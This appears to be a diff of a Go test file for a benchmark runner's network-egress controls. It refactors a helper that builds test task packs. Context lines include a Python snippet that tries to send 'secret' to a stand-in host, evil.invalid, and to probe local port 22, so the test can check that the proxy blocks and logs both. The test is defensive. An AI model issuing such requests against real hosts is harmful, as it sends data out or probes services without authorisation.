@@ -2,31 +2,19 @@ package main
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
 	"syscall"
 	"testing"
-
-	"github.com/securebench/sbench/internal/test/containerdtest"
-	"github.com/securebench/sbench/internal/test/filetest"
 )
 
 // egressPack writes a pack with a terminal task whose harness may reach some domains.
-func (h testHost) egressPack(command, more string) string {
-	h.t.Helper()
-	dir := h.t.TempDir()
-	script, err := json.Marshal(command)
-	must(h.t, err)
-	filetest.Write(h.t, dir, map[string]string{
-		"manifest.yaml": "id: p\nversion: 1\ndefaults: {family: terminal_task, environment: {image: '" + containerdtest.Image + "', timeout_seconds: 300}}\n",
-		"tasks.jsonl": `{"id": "open", "input": {"instructions": "x"}, "eval": {"checker": {"command": "true"}}}` + "\n" +
-			`{"id": "closed", "input": {"instructions": "x"}, "eval": {"checker": {"command": "true"}}, "environment": {"network": "none"}}` + "\n",
-		"tester.yaml": "schema_version: '0.2'\nrun: {id: r, output_dir: out}\nbenchmark: {manifest: manifest.yaml, tasks: tasks.jsonl}\n" + more +
-			"harness: {type: command, config: {allowed_domains: [allowed.invalid], command: " + string(script) + "}}\n",
-	})
-	return filepath.Join(dir, "tester.yaml")
+func (h testHost) egressPack(command string) string {
+	rows := taskRow("open", "true", "") + taskRow("closed", "true", `, "environment": {"network": "none"}`)
+	return writePack(h.t, h.t.TempDir(), rows, fmt.Sprintf("harness: {type: command, config: {allowed_domains: [allowed.invalid], command: %q}}\n", command))
 }
 
 // TestCommandWayOut: a command harness finds its proxy in its environment. The proxy refuses and logs. A task's
@@ -41,7 +29,7 @@ except OSError: pass
 for url in ("https://evil.invalid/", "http://evil.invalid/?q=secret", "https://allowed.invalid/", "http://127.0.0.1:22/"):
     try: u.urlopen(url, timeout=20); print(url, "reached")
     except Exception as e: print(url, e)
-P`, "")
+P`)
 	output := filepath.Join(h.dir, "out")
 	h.sbench(0, "run", "--quiet", "--config", tester, "--output-dir", output)
 	type line struct {
@@ -90,7 +78,7 @@ P`, "")
 func TestKilledWayOut(t *testing.T) {
 	h := newHost(t)
 	before := h.runs()
-	tester := h.egressPack("sleep 3000; : "+h.mark("way-out"), "")
+	tester := h.egressPack("sleep 3000; : " + h.mark("way-out"))
 	cmd := exec.Command("sbench", "run", "--quiet", "--config", tester, "--task", "open", "--output-dir", filepath.Join(h.dir, "out"))
 	cmd.Env = h.env
 	must(t, cmd.Start())
